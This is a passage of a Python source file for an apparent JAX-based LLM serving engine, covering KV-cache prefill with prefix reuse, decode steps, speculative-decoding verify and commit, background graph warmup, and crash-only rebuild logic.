        self._verify_topk = _verify_topk

        _ps, _np = cache_cfg.page_size, cache_cfg.num_pages

        # donate only the cache: the window K/V's [L,B,W,...] layout is
        # never reusable for the cache output, so donating it just
        # triggers the unusable-donation warning
        @functools.partial(jax.jit, donate_argnums=(0,))
        def _spec_commit_fn(
            cache, k_win, v_win, src_idx, positions, block_tables
        ):
            if cache_cfg.slot_contiguous:
                k, v = kvcache.commit_window_slot(
                    cache["k"], cache["v"], k_win, v_win, src_idx,
                    positions,
                )
            else:
                k, v = kvcache.commit_window_paged(
                    cache["k"], cache["v"], k_win, v_win,
                    block_tables, positions, src_idx, _ps, _np,
                )
            return {"k": k, "v": v}

        self._spec_commit_fn = _spec_commit_fn

        N, TK = engine_cfg.decode_chunk, engine_cfg.logits_top_k

        @functools.partial(jax.jit, donate_argnums=(1,), static_argnums=(10,))
        def _decode_fused(
            params, cache, tokens, positions, active,
            temperature, top_p, seeds, stop_ids, max_lengths, use_dfa,
            dfa, dfa_state,
        ):
            return model.decode_steps(
                params, self.mcfg, self.ccfg, cache,
                tokens, positions, active, temperature, top_p, seeds,
                stop_ids, max_lengths, N, TK,
                dfa=dfa if use_dfa else None,
                dfa_state=dfa_state,
            )

        self._decode_fused = _decode_fused
        self._dfa_tables = None  # lazily built device JSON-DFA (see set_dfa)
        self._stop_ids = jnp.asarray([-1], jnp.int32)  # until set_stop_ids
        # staged warmup (cold-start fix, VERDICT r4 #3): the fused graph
        # is the big compile (r4: 3159 s cold).  When enabled, serving
        # starts on the per-step path immediately and flips to fused once
        # a BACKGROUND thread has pushed the fused HLO through
        # neuronx-cc (lower().compile() populates the on-disk NEFF cache,
        # so the first foreground dispatch is a cache hit, not a fresh
        # compile).  fused_ready starts True when staging is off.
        self.fused_ready = not engine_cfg.staged_warmup
        self._warmup_thread = None
        self._warmup_error = None
        self._warmup_lock = threading.Lock()
        self._warmup_variants_started: set = set()
        # cache generation: rebuild() bumps it and REPLACES cache /
        # allocator / slot objects, so a dispatch that straddles a
        # rebuild can detect it finished against a dead generation
        # (EngineSuperseded) instead of committing stale state.
        self.epoch = 0
        METRICS.gauge("engine_fused_ready", float(self.fused_ready))
        METRICS.gauge("engine_fused_warmup_failed", 0.0)

    # ---- crash-only rebuild -------------------------------------------
    def rebuild(self, reason: str = "") -> None:
        """Crash-only recovery: throw the (possibly poisoned) KV pool
        and all sequence bookkeeping away and start from a known-good
        empty state.  Compiled graphs survive — shapes are unchanged, so
        the next dispatch is a NEFF cache hit, not a recompile.  Old
        cache/allocator objects are REPLACED, never mutated: a stale
        thread still holding references mutates garbage, not live state.
        The scheduler replays surviving requests afterwards."""
        self.epoch += 1
        # any in-flight verify window described the dead pool
        self._spec_pending = None
        self.cache = kvcache.init_cache(self.mcfg, self.ccfg, dtype=self._cache_dtype)
        if self.mesh is not None:
            from chronos_trn.parallel import sharding as sharding_lib

            self.cache = sharding_lib.shard_cache(self.cache, self.mesh)
        if self.ccfg.slot_contiguous:
            self.alloc = kvcache.SlotContiguousAllocator(self.ccfg, self.B)
        else:
            self.alloc = kvcache.PageAllocator(self.ccfg)
        self.alloc = maybe_wrap_allocator(self.alloc)  # CHRONOS_SANITIZE
        self.slots = [None] * self.B
        self._seq_pos = {}
        # the prefix cache describes pages/rows of the pool that was
        # just thrown away: REPLACE it wholesale (same crash-only rule as
        # cache/allocator — a stale reference mutates garbage, and every
        # chunk-hash entry dies with the epoch).  Replays then repopulate
        # it: the first replayed sequence re-prefills in full and
        # re-inserts, later replays sharing its prefix hit again.
        if self.prefix_cache is not None:
            self.prefix_cache = PrefixCache(
                page_size=self.ccfg.page_size,
                capacity_pages=self.ecfg.prefix_cache_pages,
                slot_major=self.ccfg.slot_contiguous,
            )
            if not self.ccfg.slot_contiguous:
                self.alloc.reclaimer = self.prefix_cache
        METRICS.inc("engine_rebuilds")
        log_event(LOG, "engine_rebuild", epoch=self.epoch, reason=reason)

    def _check_epoch(self, epoch0: int, what: str) -> None:
        if self.epoch != epoch0:
            raise EngineSuperseded(
                f"{what} completed against rebuilt engine "
                f"(epoch {epoch0} -> {self.epoch}); result discarded"
            )

    # ---- staged fused warmup ------------------------------------------
    def _fused_arg_shapes(self, use_dfa: bool):
        """ShapeDtypeStructs (with shardings) matching a decode_fused
        call, for AOT lowering without touching live buffers."""
        def sds(x):
            return jax.ShapeDtypeStruct(x.shape, x.dtype, sharding=x.sharding)

        B = self.B
        host = lambda shape, dt: jax.ShapeDtypeStruct(shape, dt)  # noqa: E731
        dfa = jax.tree.map(sds, self._dfa_tables) if use_dfa else None
        return (
            jax.tree.map(sds, self.params),
            jax.tree.map(sds, self.cache),
            host((B,), jnp.int32), host((B,), jnp.int32), host((B,), bool),
            host((B,), jnp.float32), host((B,), jnp.float32),
            host((B,), jnp.int32),
            sds(self._stop_ids), host((B,), jnp.int32), use_dfa,
            dfa, host((B,), jnp.int32),
        )

    def _compile_variant(self, use_dfa: bool) -> None:
        """Background-compile ONE fused variant (idempotent per variant).
        On success the non-DFA variant flips ``fused_ready``; failures
        land in ``_warmup_error`` and the ``engine_fused_warmup_failed``
        gauge so the degradation is visible on /healthz/ready and
        /metrics instead of silently pinning serving to the per-step
        path (ADVICE.md r5 #2)."""
        with self._warmup_lock:
            if use_dfa in self._warmup_variants_started:
                return
            self._warmup_variants_started.add(use_dfa)
        t0 = time.monotonic()
        try:
            self._decode_fused.lower(*self._fused_arg_shapes(use_dfa)).compile()
        except Exception as e:  # keep serving per-step; surfaced, not silent
            self._warmup_error = f"{type(e).__name__}: {e}"
            METRICS.gauge("engine_fused_warmup_failed", 1.0)
            log_event(LOG, "fused_warmup_failed",
                      use_dfa=use_dfa, error=self._warmup_error)
            return
        if not use_dfa:
            self.fused_ready = True
            METRICS.gauge("engine_fused_ready", 1.0)
        # ledger the AOT compile: the cost moved OFF the serving path,
        # and /debug/compiles shows where it went
        COMPILES.record_aot(
            "decode_fused", ("aot", use_dfa), time.monotonic() - t0
        )
        log_event(
            LOG, "fused_warmup_done", use_dfa=use_dfa,
            seconds=round(time.monotonic() - t0, 1),
        )

    def start_fused_warmup(self) -> None:
        """Kick off the background fused-graph compile (idempotent).
        Serving runs per-step until it finishes; the scheduler checks
        ``fused_ready`` per round, so in-flight requests migrate to the
        fused path at their next chunk boundary."""
        if (
            not self.fused_enabled
            or self.fused_ready
            or self._warmup_thread is not None
        ):
            return

        def work():
            # non-DFA FIRST and fused_ready flips after it: unconstrained
            # traffic (the common case) migrates to fused as soon as ITS
            # graph lands instead of waiting out the DFA variant too
            # (each variant is a multi-hour neuronx-cc compile at the 8B
            # tier); constrained slots keep falling back per-step via
            # scheduler._can_fuse until the DFA variant finishes.
            self._compile_variant(False)
            if self._dfa_tables is not None:
                self._compile_variant(True)

        self._warmup_thread = threading.Thread(
            target=work, daemon=True, name="chronos-fused-warmup"
        )
        self._warmup_thread.start()

    # ---- slot management ----------------------------------------------
    def free_slot(self) -> Optional[int]:
        for i, s in enumerate(self.slots):
            if s is None:
                return i
        return None

    def occupy(self, slot: int, seq_id: int):
        assert self.slots[slot] is None
        self.slots[slot] = seq_id

    def release(self, seq_id: int):
        self.alloc.free(seq_id)  # keeps cache-owned pages (n_borrowed)
        if self.prefix_cache is not None:
            # decref AFTER the allocator forgets the seq so an eviction
            # give_back cannot race a block table that still lists the
            # page; paged mode passes the allocator so the retention
            # budget can return pages to the free list immediately
            self.prefix_cache.release_seq(
                seq_id,
                None if self.ccfg.slot_contiguous else self.alloc,
            )
        self._seq_pos.pop(seq_id, None)
        for i, s in enumerate(self.slots):
            if s == seq_id:
                self.slots[i] = None

    @property
    def active_count(self) -> int:
        return sum(1 for s in self.slots if s is not None)

    # ---- prefill ------------------------------------------------------
    def _bucket_for(self, n: int) -> int:
        for b in self.ecfg.prefill_buckets:
            if n <= b:
                return b
        return max(self.ecfg.prefill_buckets)

    def _get_prefill(self, bucket: int, chunked: bool, pooled: bool = False):
        key = (bucket, chunked, pooled)
        fn = self._prefill_jit.get(key)
        if fn is None:
            if chunked:
                @functools.partial(jax.jit, donate_argnums=(1,))
                def fn(params, cache, tokens, length, block_table, start_pos):
                    return model.prefill(
                        params, self.mcfg, self.ccfg, cache,
                        tokens, length, block_table, start_pos=start_pos,
                        return_pooled=pooled,
                    )
            else:
                @functools.partial(jax.jit, donate_argnums=(1,))
                def fn(params, cache, tokens, length, block_table):
                    return model.prefill(
                        params, self.mcfg, self.ccfg, cache,
                        tokens, length, block_table, return_pooled=pooled,
                    )
            self._prefill_jit[key] = fn
        return fn

    def can_admit(self, n_tokens: int, token_ids=None) -> bool:
        """``token_ids``: when given and a prefix cache is active on the
        PAGED layout, pages covered by the longest cached prefix are
        counted as already available (the sequence borrows them instead
        of allocating).  The peek is side-effect-free and mirrors what
        allocate() can actually satisfy: the match's refcount-0 entries
        are subtracted from reclaimable capacity, because they stop
        being evictable the instant prefill's acquire() pins them.
        Should peek and prefill still disagree (they run back-to-back
        on the one worker thread, so only a future concurrency change
        could split them), prefill's OutOfPages is caught at admission
        (scheduler._admit) and the request is requeued — it is NOT
        handled like a decode-time OutOfPages (victim truncation), and
        without that catch it would unwind the worker into a full
        rebuild."""
        shared = unpinned = 0
        if (
            token_ids is not None
            and self.prefix_cache is not None
            and not self.ccfg.slot_contiguous
        ):
            shared, unpinned = self.prefix_cache.lookup_admission(token_ids)
        return (
            self.free_slot() is not None
            and self.alloc.can_admit(
                n_tokens + 1, shared_pages=shared, shared_unpinned=unpinned
            )
            and n_tokens < self.ccfg.max_context
        )

    def _prefix_insert(self, pc, st, seq_id: int, token_ids, n_matched: int):
        """Register this prompt's not-yet-cached full pages after a
        successful prefill.  Paged: ownership of the sequence's own
        prompt pages TRANSFERS to the cache (marked borrowed on the
        block table, so free() leaves them); slot-major: the rows are
        sliced out of the pool into standalone device arrays (a copy —
        safe against the pool being donated to the next dispatch)."""
        ps = self.ccfg.page_size
        total = pc.cacheable_chunks(len(token_ids))
        if total <= n_matched:
            return
        if self.ccfg.slot_contiguous:
            slot = int(st.block_table[0]) // self.ccfg.max_pages_per_seq
            kv_chunks = [
                (
                    self.cache["k"][:, slot, i * ps:(i + 1) * ps],
                    self.cache["v"][:, slot, i * ps:(i + 1) * ps],
                )
                for i in range(n_matched, total)
            ]
            pc.insert(seq_id, token_ids, n_matched, kv_chunks=kv_chunks)
            pc.trim(None)
        else:
            pages = [int(st.block_table[i]) for i in range(n_matched, total)]
            inserted = pc.insert(seq_id, token_ids, n_matched, pages=pages)
            st.n_borrowed = n_matched + inserted
            pc.trim(self.alloc)

    # ---- chain migration (fleet/migrate.py) ---------------------------
    def export_prefix(self, token_ids):
        """Export this chain's resident prefix for migration: pin the
        chain (crash-safety — the pin survives until :meth:`release_pin`,
        so pressure eviction cannot free the pages before the
        destination acks), then host-copy each chunk's KV rows.  Returns
        ``(pin_id, chunks)`` with chunks as ``[(chunk_index, k_rows,
        v_rows), ...]`` numpy arrays ``[L, page_size, KV, Dh]``;
        ``(None, [])`` when no prefix cache or nothing resident.  Runs
        on the scheduler worker thread only."""
        pc = self.prefix_cache
        if pc is None:
            return None, []
        pin_id, matched = pc.pin_chain(token_ids)
        if not matched:
            self.release_pin(pin_id)
            return None, []
        chunks = []
        try:
            for e in matched:
                if self.ccfg.slot_contiguous:
                    k_rows = np.asarray(e.kv[0])
                    v_rows = np.asarray(e.kv[1])
                else:
                    k_rows, v_rows = kvcache.extract_page_rows(
                        self.cache, e.page
                    )
                chunks.append((e.chunk_index, k_rows, v_rows))
        except Exception:
            self.release_pin(pin_id)
            raise
        return pin_id, chunks

    def release_pin(self, pin_id) -> None:
        """Drop an export pin (destination acked or migration aborted)."""
        if self.prefix_cache is not None and pin_id is not None:
            self.prefix_cache.unpin_chain(
                pin_id,
                None if self.ccfg.slot_contiguous else self.alloc,
            )

    def import_prefix(self, token_ids, chunks) -> int:
        """Import migrated KV chunks into the local prefix cache.  The
        caller (serving/server.py import endpoint) must have VERIFIED
        the payload first — fleet.migrate.decode_payload checks magic,
        version and digest before any of these mutations run (CHR014).

        Chunks are replayed in ascending chunk_index; already-resident
        chunks are skipped (dedup is sound because leaf-first eviction
        never strands a descendant without its ancestors), a gap or a
        dry page pool stops the replay — a PARTIAL import is the clean
        degrade: every registered chunk is a valid consecutive chain
        from chunk 0, the rest just re-prefills cold.  Returns the
        number of chunks imported.  Runs on the scheduler worker."""
        pc = self.prefix_cache
        if pc is None or not chunks:
            return 0
        ps = self.ccfg.page_size
        k_pool = self.cache["k"]
        # both layouts: [L, page_size, KV, Dh] per chunk
        want_shape = (k_pool.shape[0], ps) + tuple(k_pool.shape[3:])
        imported = 0
        resident = pc.resident_chunks(token_ids)
        for chunk_index, k_rows, v_rows in sorted(chunks, key=lambda c: c[0]):
            if chunk_index < resident:
                continue  # already resident here: skip, keep walking
            if chunk_index > resident:
                break     # chain gap — nothing past it can register
            if tuple(np.shape(k_rows)) != want_shape:
                break     # geometry mismatch (different model/page size)
            if self.ccfg.slot_contiguous:
                kv = (
                    jnp.asarray(np.asarray(k_rows), dtype=k_pool.dtype),
                    jnp.asarray(np.asarray(v_rows), dtype=k_pool.dtype),
                )
                if not pc.import_chunk(token_ids, chunk_index, kv=kv):
                    break
            else:
                try:
                    page = self.alloc.adopt_page()
                except kvcache.PageAllocator.OutOfPages:
                    break  # pool dry: partial import, clean degrade
                try:
                    self.cache = kvcache.write_page_rows(
                        self.cache, page, k_rows, v_rows
                    )
                    ok = pc.import_chunk(token_ids, chunk_index, page=page)
                except Exception:
                    self.alloc.give_back(page)
                    raise
                if not ok:
                    self.alloc.give_back(page)
                    break
            resident = chunk_index + 1
            imported += 1
        if imported:
            METRICS.inc("prefix_chunks_imported_total", imported)
        pc.trim(None if self.ccfg.slot_contiguous else self.alloc)
        return imported

    def prefill_seq(self, seq_id: int, token_ids) -> np.ndarray:
        """Prefill a new sequence; returns next-token logits [vocab].

        With a prefix cache, the longest cached page-aligned prefix is
        reused (paged: shared pages head the block table; slot-major:
        cached rows are scattered into the slot) and only the uncached
        suffix runs through the model — via the chunked-prefill graphs,
        which already know how to attend over pool + fresh chunk from an
        arbitrary ``start_pos``.  At least one token always prefills
        (the match is capped a chunk short of the prompt) so next-token
        logits exist.

        A dispatch failure raises :class:`EnginePoisoned`: the cache was
        donated to the failed call, so partial writes / consumed buffers
        make every co-resident sequence suspect, not just this one."""
        epoch0 = self.epoch
        n = len(token_ids)
        pc = self.prefix_cache
        cached_len, matched = 0, []
        if pc is not None:
            cached_len, matched = pc.acquire(seq_id, token_ids)
        try:
            if self.ccfg.slot_contiguous:
                st = self.alloc.allocate(
                    seq_id, n, slot=self.slots.index(seq_id)
                )
            else:
                st = self.alloc.allocate(
                    seq_id, n,
                    shared_pages=[e.page for e in matched] or None,
                )
        except Exception:
            if pc is not None:  # un-pin the matched chunks
                pc.release_seq(
                    seq_id,
                    None if self.ccfg.slot_contiguous else self.alloc,
                )
            raise
        self._seq_pos[seq_id] = n
        bt = jnp.asarray(st.block_table)

        max_bucket = max(self.ecfg.prefill_buckets)
        cache = self.cache
        if cached_len and self.ccfg.slot_contiguous:
            # pages are slot-bound here, so "reuse" = scatter the cached
            # prefix rows into this slot (two device-side copies) —
            # bitwise the K/V a full prefill would have written, at copy
            # cost instead of model-forward cost.  Operates on the LOCAL
            # cache var; committed to self.cache only after _check_epoch.
            slot = int(st.block_table[0]) // self.ccfg.max_pages_per_seq
            kcat = jnp.concatenate([e.kv[0] for e in matched], axis=1)
            vcat = jnp.concatenate([e.kv[1] for e in matched], axis=1)
            cache = {
                "k": cache["k"].at[:, slot, :cached_len].set(kcat),
                "v": cache["v"].at[:, slot, :cached_len].set(vcat),
            }
        # semcache embedding rides only FULL forwards: a prefix-cache hit
        # truncates the computation, so the pooled sum would cover a
        # suffix and disagree with the embedding the same chain got at
        # insert time.  Those requests simply skip tier-0 this round.
        pooled_on = self.collect_pooled and cached_len == 0
        pooled_sum = None
        samp = PROFILER.begin("prefill", tokens=n - cached_len)
        try:
            with METRICS.time("prefill_s"):
                if cached_len == 0 and n <= max_bucket:
                    bucket = self._bucket_for(n)
                    padded = np.zeros(bucket, np.int32)
                    padded[:n] = token_ids
                    fn = self._get_prefill(bucket, chunked=False,
                                           pooled=pooled_on)
                    if samp is not None:
                        samp.mark_host()
                    tc0 = time.monotonic()
                    if pooled_on:
                        logits, pooled_sum, cache = fn(
                            self.params, cache, jnp.asarray(padded),
                            jnp.int32(n), bt,
                        )
                    else:
                        logits, cache = fn(
                            self.params, cache, jnp.asarray(padded),
                            jnp.int32(n), bt,
                        )
                    COMPILES.observe(
                        "prefill", (bucket, False), time.monotonic() - tc0
                    )
                else:
                    # chunked prefill of the uncached suffix (the whole
                    # prompt when cached_len == 0), in max_bucket pieces;
                    # a short final/only piece rides its own bucket's
                    # chunked graph instead of padding to max_bucket
                    logits = None
                    for start in range(cached_len, n, max_bucket):
                        chunk = token_ids[start : start + max_bucket]
                        bucket = (
                            max_bucket
                            if len(chunk) == max_bucket or cached_len == 0
                            else self._bucket_for(len(chunk))
                        )
                        padded = np.zeros(bucket, np.int32)
                        padded[: len(chunk)] = chunk
                        fn = self._get_prefill(bucket, chunked=True,
                                               pooled=pooled_on)
                        if samp is not None:
                            samp.mark_host()
                        tc0 = time.monotonic()
                        if pooled_on:
                            # chunk sums add up to the whole-prompt sum:
                            # each chunk masks its own pads out
                            logits, psum, cache = fn(
                                self.params, cache, jnp.asarray(padded),
                                jnp.int32(n), bt, jnp.int32(start),
                            )
                            pooled_sum = (
                                psum if pooled_sum is None
                                else pooled_sum + psum
                            )
                        else:
                            logits, cache = fn(
                                self.params, cache, jnp.asarray(padded),
                                jnp.int32(n), bt, jnp.int32(start),
                            )
                        COMPILES.observe(
                            "prefill", (bucket, True), time.monotonic() - tc0
                        )
            if samp is not None:
                # fence the RESULTS (the donated input cache is consumed;
                # `cache` here is the freshly returned one)
                samp.fence((logits, cache))
        except (EnginePoisoned, EngineSuperseded):
            raise
        except Exception as e:
            raise EnginePoisoned(
                f"prefill dispatch failed with the cache donated: "
                f"{type(e).__name__}: {e}"
            ) from e
        self._check_epoch(epoch0, "prefill")
        self.cache = cache
        # expose the cache split for the scheduler's prefill span + the
        # ttft cache=hit|miss label (read immediately after this call on
        # the single worker thread — not a concurrent-safe channel)
        self.last_prefill_info = {
            "prompt_tokens": n,
            "cache_hit_tokens": cached_len,
            "cache_miss_tokens": n - cached_len,
        }
        if pooled_on and pooled_sum is not None:
            # numerator -> mean: divide by the true token count once,
            # after all chunks contributed
            self.last_pooled = np.asarray(pooled_sum, np.float32) / max(n, 1)
        else:
            self.last_pooled = None
        METRICS.inc("prefill_tokens", n - cached_len)  # tokens COMPUTED
        if pc is not None:
            METRICS.inc("prefix_cache_hit_tokens", cached_len)
            METRICS.inc("prefix_cache_miss_tokens", n - cached_len)
            if cached_len:
                METRICS.inc("prefill_tokens_saved_total", cached_len)
            self._prefix_insert(pc, st, seq_id, token_ids, len(matched))
        return np.asarray(logits)

    # ---- decode -------------------------------------------------------
    def _all_slot_positions(self) -> np.ndarray:
        """Every OCCUPIED slot's true position, 0 for free slots.  The
        slot-major decode merge writes garbage rows for unfed slots at
        whatever position it is given (kvcache.merge_decode_slot's
        garbage-safety invariant): that is only safe at the slot's TRUE
        current position (overwritten before first read on resume) — a
        stale 0 would corrupt a live sequence's first token."""
        positions = np.zeros(self.B, np.int32)
        for slot, seq_id in enumerate(self.slots):
            if seq_id is not None:
                positions[slot] = self._seq_pos.get(seq_id, 0)
        return positions

    def decode(self, tokens_by_slot: Dict[int, int]) -> Dict[int, tuple]:
        """One decode step.  tokens_by_slot: slot -> token to feed (the
        token sampled last step).  Returns slot -> (top-K logit values
        [K], token ids [K]) sorted descending (jax.lax.top_k order).
        Extends each sequence's page table by one token."""
        epoch0 = self.epoch
        samp = PROFILER.begin("decode", tokens=len(tokens_by_slot))
        tokens = np.zeros(self.B, np.int32)
        positions = self._all_slot_positions()
        block_tables = np.zeros((self.B, self.ccfg.max_pages_per_seq), np.int32)
        active = np.zeros(self.B, bool)

        # dry-run page demand AND per-sequence capacity BEFORE mutating any
        # table, so OutOfPages cannot leave the allocator half-extended
        # mid-step (and _seq_pos never advances without a device write)
        # slot-contiguous pools reserve every slot's full page range at
        # allocate(); free_pages counts only FREE slots' pages, so a full
        # batch would spuriously fail the demand check even though each
        # live slot's growth pages are pre-reserved — only the per-seq
        # capacity check applies there.
        demand = 0
        for slot in tokens_by_slot:
            seq_id = self.slots[slot]
            pos = self._seq_pos[seq_id]
            if self.alloc.pages_needed(pos + 1) > self.ccfg.max_pages_per_seq:
                raise kvcache.PageAllocator.OutOfPages(
                    f"seq {seq_id} at pos {pos} would exceed max_pages_per_seq"
                )
            if not self.ccfg.slot_contiguous:
                demand += self.alloc.pages_needed(pos + 1) - self.alloc.pages_needed(pos)
        if not self.ccfg.slot_contiguous and demand > (
            self.alloc.free_pages + self.alloc.reclaimable_pages
        ):
            raise kvcache.PageAllocator.OutOfPages(
                f"decode step needs {demand} new pages, {self.alloc.free_pages} free"
            )

        for slot, tok in tokens_by_slot.items():
            seq_id = self.slots[slot]
            assert seq_id is not None
            pos = self._seq_pos[seq_id]
            st = self.alloc.extend(seq_id, pos + 1)  # room for this token
            tokens[slot] = tok
            positions[slot] = pos
            block_tables[slot] = st.block_table
            active[slot] = True
            self._seq_pos[seq_id] = pos + 1

        try:
            with METRICS.time("decode_step_s"):
                if samp is not None:
                    samp.mark_host()
                tc0 = time.monotonic()
                vals, idx, cache = self._decode_topk(
                    self.params,
                    self.cache,
                    jnp.asarray(tokens),
                    jnp.asarray(positions),
                    jnp.asarray(block_tables),
                    jnp.asarray(active),
                )
                COMPILES.observe("decode", self.B, time.monotonic() - tc0)
            if samp is not None:
                samp.fence((vals, idx, cache))
        except Exception as e:
            # host bookkeeping (_seq_pos, allocator) advanced above and
            # the cache was donated to the failed dispatch: state is
            # unknowable — classify as cache-poisoning
            raise EnginePoisoned(
                f"decode dispatch failed with the cache donated: "
                f"{type(e).__name__}: {e}"
            ) from e
        self._check_epoch(epoch0, "decode")
        self.cache = cache
        vals = np.asarray(vals)
        idx = np.asarray(idx)
        METRICS.inc("decode_tokens", len(tokens_by_slot))
        return {slot: (vals[slot], idx[slot]) for slot in tokens_by_slot}

    # ---- speculative verify / commit ----------------------------------
    def spec_verify(
        self, windows_by_slot: Dict[int, object]
    ) -> Dict[int, tuple]:
        """Score each slot's draft tree in ONE fused forward (speculative
        decoding's verify step).  ``windows_by_slot[slot]`` is either a
        plain list ``[pending_token, draft_1, ..., draft_k]`` (a linear
        draft) or a ``(tokens, parents)`` pair describing a draft TREE:
        ``tokens[0]`` is the pending token (parent -1), ``parents[i]``
        the window index of node i's parent, parents before children.
        The result maps slot -> (vals [w, K], idx [w, K]): window node
        i's top-K is the model's prediction for the token after node i
        given node i's root-to-node path — exactly what ``decode`` would
        return after feeding that path one token at a time.

        Verify is READ-ONLY (v2): nothing is allocated, written, or
        advanced here.  The window K/V is parked in ``_spec_pending``
        and the caller MUST follow up with :meth:`spec_commit` naming
        each slot's accepted path — or drop the round (rebuild clears
        the stash).  Capacity is pre-checked for the FULL window demand
        so the later commit (<= that demand, same worker thread in
        between) can never hit OutOfPages with the cache donated."""
        epoch0 = self.epoch
        W = self._spec_W
        norm: Dict[int, tuple] = {}
        max_w = 1
        for slot, window in windows_by_slot.items():
            if isinstance(window, tuple):
                toks, parents = window
            else:
                toks = list(window)
                parents = list(range(-1, len(toks) - 1))
            w = len(toks)
            if not 1 <= w <= W or len(parents) != w:
                raise ValueError(
                    f"verify window of {w} tokens (static W = {W})"
                )
            norm[slot] = (toks, parents)
            max_w = max(max_w, w)
        Wb = min(b for b in self._spec_buckets if b >= max_w)
        samp = PROFILER.begin(
            "spec_verify",
            tokens=sum(len(t) for t, _ in norm.values()),
        )

        tokens = np.zeros((self.B, Wb), np.int32)
        positions = self._all_slot_positions()
        depths = np.zeros((self.B, Wb), np.int32)
        # pads attend themselves only: a well-defined softmax row whose
        # logits nobody reads beats masking plumbing for inactive width
        tree_mask = np.zeros((self.B, Wb, Wb), bool)
        tree_mask[:, np.arange(Wb), np.arange(Wb)] = True
        block_tables = np.zeros((self.B, self.ccfg.max_pages_per_seq), np.int32)

        # dry-run demand/capacity BEFORE dispatch: verify itself touches
        # nothing, but the follow-up commit extends by the accepted
        # length (<= w), so proving the full window fits NOW is what
        # makes the donated commit structurally unable to run out
        demand = 0
        for slot, (toks, _) in norm.items():
            seq_id = self.slots[slot]
            assert seq_id is not None
            w = len(toks)
            pos = self._seq_pos[seq_id]
            if self.alloc.pages_needed(pos + w) > self.ccfg.max_pages_per_seq:
                raise kvcache.PageAllocator.OutOfPages(
                    f"seq {seq_id} window [{pos}, {pos + w}) would exceed "
                    "max_pages_per_seq"
                )
            if not self.ccfg.slot_contiguous:
                demand += self.alloc.pages_needed(pos + w) - self.alloc.pages_needed(pos)
        if not self.ccfg.slot_contiguous and demand > (
            self.alloc.free_pages + self.alloc.reclaimable_pages
        ):
            raise kvcache.PageAllocator.OutOfPages(
                f"verify step needs {demand} new pages, "
                f"{self.alloc.free_pages} free"
            )

        from chronos_trn.spec.accept import ancestor_sets, tree_depths

        total = 0
        meta: Dict[int, tuple] = {}
        for slot, (toks, parents) in norm.items():
            seq_id = self.slots[slot]
            pos = self._seq_pos[seq_id]
            w = len(toks)
            tokens[slot, :w] = toks
            depths[slot, :w] = tree_depths(parents)
            for i, anc in enumerate(ancestor_sets(parents)):
                tree_mask[slot, i, list(anc)] = True
            block_tables[slot] = self.alloc.get(seq_id).block_table
            meta[slot] = (seq_id, pos, w)
            total += w

        bt_dev = jnp.asarray(block_tables)
        try:
            with METRICS.time("spec_verify_s"):
                if samp is not None:
                    samp.mark_host()
                tc0 = time.monotonic()
                vals, idx, k_win, v_win = self._verify_topk(
                    self.params,
                    self.cache,
                    jnp.asarray(tokens),
                    jnp.asarray(positions),
                    bt_dev,
                    jnp.asarray(tree_mask),
                    jnp.asarray(depths),
                )
                COMPILES.observe("spec_verify", Wb, time.monotonic() - tc0)
            if samp is not None:
                samp.fence((vals, idx, k_win, v_win))
        except Exception as e:
            # the cache was not donated, but a failed dispatch mid-step
            # leaves this round unrecoverable either way: classify as
            # poisoning so the worker takes the rebuild+replay path
            raise EnginePoisoned(
                f"verify dispatch failed: {type(e).__name__}: {e}"
            ) from e
        self._check_epoch(epoch0, "spec_verify")
        # NOTE: no block tables in the stash — commit rebuilds them from
        # the allocator after its extends (they may grow a page)
        self._spec_pending = {
            "epoch": epoch0,
            "Wb": Wb,
            "k": k_win,
            "v": v_win,
            "meta": meta,
        }
        # CHRONOS_SANITIZE: park the deferred-commit window so the
        # sanitizer can prove at commit time that nothing freed these
        # sequences (or their verify-time pages) in between
        spec_park = getattr(self.alloc, "spec_park", None)
        if spec_park is not None:
            spec_park(meta)
        vals = np.asarray(vals)
        idx = np.asarray(idx)
        # every window node is a real forward-pass token (compute-wise a
        # decode step each); rejected ones show up separately in the
        # scheduler's spec_drafted/spec_accepted counters
        METRICS.inc("decode_tokens", total)
        METRICS.gauge("spec_batch_verify_width", float(len(norm)))
        return {
            slot: (vals[slot, :w], idx[slot, :w])
            for slot, (_, _, w) in meta.items()
        }

    def spec_commit(self, accepts: Dict[int, list]) -> None:
        """Land the accepted paths of the last :meth:`spec_verify`.
        ``accepts[slot]`` is the accepted path as window-node indices in
        depth order, ALWAYS starting with node 0 (the pending token was
        sampled last step and is committed unconditionally).  One
        donated dispatch scatters exactly those nodes' K/V
        (kvcache.commit_window_*); the allocator extends by each path's
        length — rejected nodes never existed as far as cache state is
        concerned, so there is nothing to roll back.  Slots from the
        verify that are absent here (failed host-side) commit nothing."""
        pend = self._spec_pending
        self._spec_pending = None
        if pend is None:
            raise RuntimeError("spec_commit without a pending spec_verify")
        epoch0 = self.epoch
        if pend["epoch"] != epoch0:
            raise EngineSuperseded(
                "spec_commit after rebuild; verify window discarded"
            )
        # CHRONOS_SANITIZE: before any extend or the donated scatter,
        # prove the parked window is still live — a free() in the
        # verify->commit gap means the block tables below are dead
        spec_check = getattr(self.alloc, "spec_check_commit", None)
        if spec_check is not None:
            spec_check(accepts)
        Wb = pend["Wb"]
        samp = PROFILER.begin(
            "spec_commit",
            tokens=sum(len(p) for p in accepts.values()),
        )
        src_idx = np.full((self.B, Wb), -1, np.int32)
        positions = np.zeros((self.B, Wb), np.int32)
        block_tables = np.zeros(
            (self.B, self.ccfg.max_pages_per_seq), np.int32
        )
        for slot, path in accepts.items():
            seq_id, pos, w = pend["meta"][slot]
            n = len(path)
            if not 1 <= n <= w or path[0] != 0:
                raise ValueError(
                    f"slot {slot}: accepted path {path} for window of {w}"
                )
            # capacity was proven for pos + w at verify; n <= w
            self.alloc.extend(seq_id, pos + n)
            self._seq_pos[seq_id] = pos + n
            src_idx[slot, :n] = path
            positions[slot, :n] = pos + np.arange(n, dtype=np.int32)
            # block tables AFTER the extend: a path crossing a page
            # boundary writes into a page the verify-time table had not
            # allocated yet — the stale table would scatter those K/V
            # rows into page 0 (the padding value), corrupting whoever
            # owns it
            block_tables[slot] = self.alloc.get(seq_id).block_table
        try:
            with METRICS.time("spec_commit_s"):
                if samp is not None:
                    samp.mark_host()
                tc0 = time.monotonic()
                cache = self._spec_commit_fn(
                    self.cache,
                    pend["k"],
                    pend["v"],
                    jnp.asarray(src_idx),
                    jnp.asarray(positions),
                    jnp.asarray(block_tables),
                )
                COMPILES.observe("spec_commit", Wb, time.monotonic() - tc0)
            if samp is not None:
                samp.fence((cache,))
        except Exception as e:
            raise EnginePoisoned(
                f"commit dispatch failed with the cache donated: "
                f"{type(e).__name__}: {e}"
            ) from e
